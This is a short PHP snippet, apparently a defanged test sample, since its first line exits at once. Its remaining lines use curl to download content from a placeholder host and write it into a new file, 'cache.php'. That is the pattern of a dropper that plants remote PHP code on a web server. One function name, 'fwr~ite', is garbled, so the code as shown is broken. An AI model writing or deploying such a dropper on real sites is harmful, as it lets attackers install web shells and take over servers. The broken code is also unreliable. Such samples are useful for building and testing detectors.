<?php exit; ?>
<?php
$c = curl_init(); curl_setopt($c, CURLOPT_URL, 'http://marker.invalid/x'); curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
$m = curl_exec($c); $h = fopen('cache.php', 'w+'); fwr~ite($h, $m); fclose($h); echo file_exists('cache.php') ? 'done' : 'no';
